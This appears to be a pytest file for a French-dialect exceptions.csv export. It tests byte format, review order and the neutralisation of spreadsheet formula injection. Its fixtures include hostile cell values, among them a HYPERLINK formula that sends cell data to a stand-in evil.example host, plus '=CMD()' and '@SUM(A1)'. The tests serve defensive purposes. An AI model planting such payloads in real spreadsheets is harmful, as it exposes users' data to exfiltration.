"""exceptions.csv for data stewards: French Excel's dialect, review order, no formula ever runs.

The register built in code below carries hostile values (formulas, leading tab or carriage
return) in every text column; the end-to-end test uses tests/steward_extract.py.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.exceptions_workbook import (
    COLUMNS,
    OFFENDING_COLUMN,
    offending_values_from,
    workbook_rows,
    write_exceptions_workbook,
)
from reports.spreadsheet_safety import neutralise_cell, neutralise_frame
from tests.steward_extract import HOSTILE_EMAIL, HOSTILE_PHONE, steward_run
from validation.rules import rule

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"cliquer")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
HEADER = ["entité", "clé legacy", "issue", "code motif", "explication", "action suggérée", "détail",
          "fusionné dans"]


def _register(rows: list[tuple[str, str, str, str | None, str, str | None]]) -> pd.DataFrame:
    frame = pd.DataFrame(rows, columns=["entity", "legacy_key", "outcome", "reason_code", "detail", "merged_into"])
    frame["merged_into"] = frame["merged_into"].astype("string")
    return frame


REGISTER = _register([
    ("habilitation", "10", "rejected", "ORPHAN_USER", HOSTILE[0], None),
    ("user", "10", "excluded", "USER_DELETED", HOSTILE[1], None),
    ("user", "9", "rejected", "INVALID_EMAIL", HOSTILE[2], None),
    ("user", "2", "rejected", "INVALID_EMAIL", HOSTILE[3], None),
    ("habilitation", "7", "merged", "DUPLICATE_ACCESS", HOSTILE[4], "=1+1"),
    ("application", "=CMD()", "rejected", "APPLICATION_UNMAPPED", HOSTILE[5], None),
    ("establishment", "73282932000075", "rejected", "INVALID_SIRET", "ok", None),
    ("establishment", "35600000000048", "corrected", "SIREN_CORRECTED", "siren remplacé", None),
    ("user", "3", "merged", "DUPLICATE_LOGIN", "fusionné dans id_utilisateur 2", "2"),
])


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    return write_exceptions_workbook(REGISTER, tmp_path)


def test_french_spreadsheet_dialect(workbook: Path) -> None:
    assert workbook.name == "exceptions.csv"
    data = workbook.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    assert data.endswith(b"\r\n")
    assert all(data[index - 1:index] == b"\r" for index in range(len(data)) if data[index:index + 1] == b"\n")
    assert data[3:].split(b"\r\n")[0].decode("utf-8") == ";".join(HEADER)


def test_one_row_per_register_row_with_the_rule_s_words(workbook: Path) -> None:
    rows = _read(workbook)
    assert rows[0] == HEADER == list(COLUMNS)
    assert len(rows) - 1 == len(REGISTER)
    by_key = {(row[0], row[1]): dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    email = by_key[("utilisateur", "9")]
    assert email["issue"] == "rejeté"
    assert email["code motif"] == "INVALID_EMAIL"
    assert email["explication"] == rule("user", "INVALID_EMAIL").explanation_fr
    assert email["action suggérée"] == rule("user", "INVALID_EMAIL").action_fr
    assert by_key[("utilisateur", "3")]["fusionné dans"] == "2"
    assert by_key[("utilisateur", "9")]["fusionné dans"] == ""


def test_formulas_are_neutralised(workbook: Path) -> None:
    cells = [cell for row in _read(workbook)[1:] for cell in row]
    for value in HOSTILE:
        assert "'" + value in cells, value
        assert value not in cells
    assert "'=1+1" in cells
    assert "'=CMD()" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_review_order(workbook: Path) -> None:
    order = [(row[0], row[1], row[3]) for row in _read(workbook)[1:]]
    assert order == [
        ("application", "'=CMD()", "APPLICATION_UNMAPPED"),  # a blocking rule first
        ("utilisateur", "2", "INVALID_EMAIL"),  # then rejections, by entity, reason order, key (numeric)
        ("utilisateur", "9", "INVALID_EMAIL"),
        ("établissement", "73282932000075", "INVALID_SIRET"),
        ("habilitation", "10", "ORPHAN_USER"),
        ("utilisateur", "3", "DUPLICATE_LOGIN"),  # then merged, corrected, excluded
        ("habilitation", "7", "DUPLICATE_ACCESS"),
        ("établissement", "35600000000048", "SIREN_CORRECTED"),
        ("utilisateur", "10", "USER_DELETED"),
    ]


def test_empty_register_gives_the_header_only(tmp_path: Path) -> None:
    path = write_exceptions_workbook(REGISTER.iloc[0:0], tmp_path)
    assert _read(path) == [HEADER]


def test_offending_values_column(tmp_path: Path) -> None:
    values = pd.DataFrame({"entity": ["user", "user"], "legacy_key": ["9", "2"],
                           "reason_code": ["INVALID_EMAIL", "INVALID_EMAIL"], "value": ["pas-une-adresse", "-x"]})
    rows = _read(write_exceptions_workbook(REGISTER, tmp_path, offending_values=values))
    assert rows[0] == [*HEADER, OFFENDING_COLUMN]
    by_key = {(row[0], row[1]): row[-1] for row in rows[1:]}
    assert by_key[("utilisateur", "9")] == "pas-une-adresse"
    assert by_key[("utilisateur", "2")] == "'-x"
    assert by_key[("utilisateur", "10")] == ""


def test_offending_values_need_their_columns() -> None:
    with pytest.raises(ValueError, match="legacy_key"):
        workbook_rows(REGISTER, pd.DataFrame({"entity": ["user"], "value": ["x"]}))


def test_end_to_end_from_a_validation(tmp_path: Path) -> None:
    run = steward_run()
    values = offending_values_from(run.engine.results)
    path = write_exceptions_workbook(run.register, tmp_path, offending_values=values)
    rows = _read(path)
    assert len(rows) - 1 == len(run.register)
    by_key = {(row[0], row[1], row[3]): dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_key[("utilisateur", "3", "INVALID_EMAIL")][OFFENDING_COLUMN] == HOSTILE_EMAIL
    assert by_key[("utilisateur", "4", "DUPLICATE_LOGIN")][OFFENDING_COLUMN] == "dup@example.fr"
    assert by_key[("utilisateur", "8", "LOGIN_TAKEN")][OFFENDING_COLUMN] == "native.account@example.fr"
    # a phone number is personal data beyond the login: never a « valeur en cause »
    assert by_key[("utilisateur", "6", "PHONE_DROPPED")][OFFENDING_COLUMN] == ""
    assert HOSTILE_PHONE not in path.read_text(encoding="utf-8-sig")
    assert rows[1][3] == "APPLICATION_UNMAPPED"  # the blocking rule's rejection comes first


@pytest.mark.parametrize("value", [*HOSTILE, "＝1+1", "＋1"])
def test_neutralise_cell_quotes_formula_starts(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["a=b", "1", "", "'=déjà", "SIRET 123", 42, -2, 1.5, None])
def test_neutralise_cell_leaves_the_rest(value: object) -> None:
    assert neutralise_cell(value) == value


def test_neutralise_frame_touches_text_only() -> None:
    frame = pd.DataFrame({"text": ["=1", "ok", None], "number": [-2, 3, 4],
                          "string": pd.array(["@x", pd.NA, "y"], dtype="string"), "=name": ["a", "b", "c"]})
    safe = neutralise_frame(frame)
    assert safe["text"].tolist()[:2] == ["'=1", "ok"]
    assert safe["text"].isna().tolist()[2]
    assert safe["number"].tolist() == [-2, 3, 4]
    assert safe["string"].tolist()[0] == "'@x"
    assert pd.isna(safe["string"].tolist()[1])
    assert list(safe.columns) == ["text", "number", "string", "'=name"]
    assert frame.loc[0, "text"] == "=1"  # the input is not modified


_ENTITIES = st.sampled_from(["user", "habilitation", "establishment", "application", "autre"])
_KEYS = st.one_of(st.from_regex(r"0{0,2}[0-9]{1,3}", fullmatch=True),
                  st.sampled_from(["abc", "Zoé", "é", "z", "=CMD()", "0", "00", "", " 7", "７"]))
_REGISTER_ROWS = st.lists(st.tuples(
    _ENTITIES, _KEYS, st.sampled_from(["rejected", "merged", "corrected", "excluded", "autre"]),
    st.one_of(st.none(), st.sampled_from(["INVALID_EMAIL", "DUPLICATE_ACCESS", "ORPHAN_USER", "SIREN_CORRECTED",
                                          "DUPLICATE_LOGIN", "X"])),
    st.one_of(st.none(), st.sampled_from(["ok", "=1+1", "\tx", "fusionné"])),
    st.one_of(st.none(), st.sampled_from(["2", "=1"])),
), max_size=25)


@settings(max_examples=200, deadline=None)
@given(_REGISTER_ROWS, st.integers(1, 5), st.booleans())
def test_the_workbook_made_slice_by_slice_is_the_register_in_review_order_as_defined(
        rows: list[tuple[str, str, str, str | None, str | None, str | None]], slice_rows: int,
        with_values: bool) -> None:
    """The order is worked out on codes and the cells made a slice at a time; in plain Python,
    row by row, sorted by the module's definition, the same rows come out (file and frame)."""
    import tempfile

    from reports import exceptions_workbook
    from reports.exceptions_workbook import _offending_column, _offending_lookup, _rule_columns

    register = pd.DataFrame(rows, columns=["entity", "legacy_key", "outcome", "reason_code", "detail",
                                           "merged_into"]).astype("str")
    values = (pd.DataFrame({"entity": ["user", "user"], "legacy_key": ([r[1] for r in rows] + ["1", "2"])[:2],
                            "reason_code": ["INVALID_EMAIL", None], "value": ["=a@x", "b@x"]})
              if with_values else None)
    offending = (_offending_column(_offending_lookup(values), register["entity"].to_numpy(dtype=object),
                                   register["legacy_key"].to_numpy(dtype=object),
                                   register["reason_code"].fillna("").to_numpy(dtype=object))
                 if values is not None else None)

    def review_key(position: int) -> tuple[object, ...]:
        entity, key, outcome, reason, *_ = rows[position]
        *_, priority, entity_rank, rule_order = _rule_columns(entity, reason or "", outcome)
        numeric = key.isascii() and key.isdigit()
        digits = key.lstrip("0")
        return (priority, entity_rank, entity, rule_order, reason or "", not numeric,
                len(digits) if numeric else 0, digits if numeric else key)

    expected = []
    for position in sorted(range(len(rows)), key=review_key):
        entity, key, outcome, reason, detail, merged = rows[position]
        labels = _rule_columns(entity, reason or "", outcome)
        expected.append([labels[0], key, labels[1], labels[2], labels[3], labels[4], detail or "", merged or "",
                         *([offending[position]] if offending is not None else [])])

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(exceptions_workbook, "SLICE_ROWS", slice_rows)
        made = workbook_rows(register, values)
        with tempfile.TemporaryDirectory() as folder:
            written = _read(write_exceptions_workbook(register, Path(folder), offending_values=values))
    assert made.values.tolist() == expected
    assert list(made.columns) == HEADER + ([OFFENDING_COLUMN] if values is not None else [])
    assert written[1:] == [[neutralise_cell(cell) for cell in row] for row in expected]


# --- the file's bytes: Arrow's lines are csv.writer's ---------------------------------------------


def _reference_bytes(register: pd.DataFrame, values: pd.DataFrame | None) -> bytes:
    """The file as it was written before Arrow made its lines: the workbook's cells (workbook_rows),
    each neutralised, written by csv.writer in French Excel's dialect, encoded utf-8-sig."""
    import io

    made = workbook_rows(register, values)
    text = io.StringIO()
    writer = csv.writer(text, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow([neutralise_cell(name) for name in made.columns])
    writer.writerows([[neutralise_cell(cell) for cell in row] for row in made.values.tolist()])
    return text.getvalue().encode("utf-8-sig")


def _written_bytes(register: pd.DataFrame, values: pd.DataFrame | None, slice_rows: int) -> bytes:
    import tempfile

    from reports import exceptions_workbook

    with pytest.MonkeyPatch.context() as patch, tempfile.TemporaryDirectory() as folder:
        patch.setattr(exceptions_workbook, "SLICE_ROWS", slice_rows)
        return write_exceptions_workbook(register, Path(folder), offending_values=values).read_bytes()


# What csv.writer quotes (the delimiter, the quote, CR, LF), what it does not (spaces, tab, the
# single quote, a backslash: there is no escape character), what a spreadsheet runs as a formula.
_TRICKY = ["", ";", '"', "\r", "\n", "\r\n", 'a;"b"', ' "x" ', "=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "\n=1",
           " =1", "  ", "'=déjà", "a\\b", "Zoé", "日本", "＝1", "－2", "\x00", '=HYPERLINK("http://x";"y")']
_CELL_TEXT = st.one_of(
    st.sampled_from(_TRICKY),
    st.text(alphabet=st.sampled_from(list(';"\r\n=+-@\t \'\\aZé＠\x00')), max_size=6),
    st.text(max_size=8),  # any code point but a lone surrogate (no UTF-8 holds one)
)
_BYTES_ROWS = st.lists(st.tuples(
    _ENTITIES, st.one_of(_KEYS, _CELL_TEXT),
    st.sampled_from(["rejected", "merged", "corrected", "excluded"]),
    st.one_of(st.none(), st.sampled_from(["INVALID_EMAIL", "DUPLICATE_LOGIN", "ORPHAN_USER", "=X;1"])),
    st.one_of(st.none(), _CELL_TEXT), st.one_of(st.none(), _CELL_TEXT),
), max_size=20)


@st.composite
def _offending_values(draw: st.DrawFn, keys: list[str]) -> pd.DataFrame | None:
    if not draw(st.booleans()):
        return None
    rows = draw(st.lists(st.tuples(st.sampled_from(["user", "habilitation"]),
                                   st.sampled_from(keys) if keys else _KEYS,
                                   st.one_of(st.none(), st.sampled_from(["INVALID_EMAIL", "DUPLICATE_LOGIN"])),
                                   st.one_of(st.none(), _CELL_TEXT)), max_size=8))
    return pd.DataFrame(rows, columns=["entity", "legacy_key", "reason_code", "value"], dtype=object)


@settings(max_examples=300, deadline=None)
@given(data=st.data(), rows=_BYTES_ROWS, slice_rows=st.sampled_from([1, 2, 3, 7, 65_536]),
       text_dtype=st.sampled_from(["str", object]))
def test_the_file_is_byte_for_byte_what_csv_writer_writes(
        data: st.DataObject, rows: list[tuple[str, str, str, str | None, str | None, str | None]], slice_rows: int,
        text_dtype: str | type) -> None:
    """Arrow's lines (neutralised, quoted, joined by Arrow) are, byte for byte, those of csv.writer
    from the same cells, whatever the text of the key, the detail, « fusionné dans » and the
    offending values, over any number of slices, whether the register's text is Arrow's or Python's."""
    register = pd.DataFrame(rows, columns=["entity", "legacy_key", "outcome", "reason_code", "detail",
                                           "merged_into"])
    for column in ("legacy_key", "detail", "merged_into"):
        register[column] = register[column].astype(text_dtype)
    values = data.draw(_offending_values([row[1] for row in rows]))
    assert _written_bytes(register, values, slice_rows) == _reference_bytes(register, values)


def test_fields_are_quoted_as_csv_writer_quotes_them(tmp_path: Path) -> None:
    """Written out by hand: a field in double quotes (its own doubled) when it holds `;`, `"`, CR
    or LF, and only then; after neutralisation; an empty field stays empty."""
    register = _register([
        ("user", "1", "rejected", "INVALID_EMAIL", "a;b", 'say "hi"'),
        ("user", "2", "rejected", "INVALID_EMAIL", "l1\nl2", "\rx"),
        ("user", "3", "rejected", "INVALID_EMAIL", " x ", ""),
        ("user", "4", "rejected", "INVALID_EMAIL", "=1;2", "'\t\\"),
        ("user", "5", "rejected", "INVALID_EMAIL", '"', None),
    ])
    values = pd.DataFrame({"entity": ["user", "user"], "legacy_key": ["1", "2"], "reason_code": ["INVALID_EMAIL"] * 2,
                           "value": ['x";@y', "ok"]})
    data = write_exceptions_workbook(register, tmp_path, offending_values=values).read_bytes()
    prefix = ";".join(["utilisateur", "{key}", "rejeté", "INVALID_EMAIL", rule("user", "INVALID_EMAIL").explanation_fr,
                       rule("user", "INVALID_EMAIL").action_fr]) + ";"
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[0] == ";".join([*HEADER, OFFENDING_COLUMN])
    assert lines[1:] == [
        prefix.format(key=1) + '"a;b";"say ""hi""";"x"";@y"',
        prefix.format(key=2) + '"l1\nl2";"\'\rx";ok',  # a lone LF or CR, quoted: no line end
        prefix.format(key=3) + " x ;;",
        prefix.format(key=4) + "\"'=1;2\";'\t\\;",
        prefix.format(key=5) + '"""";;',
        "",
    ]


def test_arrow_writes_every_slice_of_text_it_holds(tmp_path: Path) -> None:
    """No slice of ordinary (hostile, but valid) text goes csv.writer's way: the fast way is the one
    the million-user run takes."""
    from reports import exceptions_workbook

    register = pd.concat([REGISTER.astype({"merged_into": "str"}), REGISTER.astype(object)], ignore_index=True)
    expected = _reference_bytes(register, None)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(exceptions_workbook, "SLICE_ROWS", 4)
        patch.setattr(exceptions_workbook, "_slice_cells", lambda *_: pytest.fail("a slice went csv.writer's way"))
        assert write_exceptions_workbook(register, tmp_path).read_bytes() == expected


@pytest.mark.parametrize("column", ["detail", "merged_into"])
def test_a_lone_surrogate_fails_as_csv_writer_did(tmp_path: Path, column: str) -> None:
    """Text with a lone surrogate (which no UTF-8 encodes: Arrow cannot hold it) makes its slice go
    csv.writer's way, which raises the encoding error the utf-8-sig file always raised, after the
    rows before it; nothing is renamed to exceptions.csv."""
    register = REGISTER.astype(object)
    register.loc[3, column] = "bad\ud800"
    with pytest.raises(UnicodeEncodeError) as raised:
        write_exceptions_workbook(register, tmp_path)
    assert "'utf-8' codec can't encode character '\\ud800'" in str(raised.value)
    assert not (tmp_path / "exceptions.csv").exists()
    written = (tmp_path / ".exceptions.csv.partial").read_bytes()
    with pytest.raises(UnicodeEncodeError):
        _reference_bytes(register, None)
    before = _reference_bytes(register.drop(index=3), None)  # the rows before the bad one, in review order
    assert written.count(b"\r\n") == 2  # the header and the first row in review order (« =CMD() »)
    assert before.startswith(written)
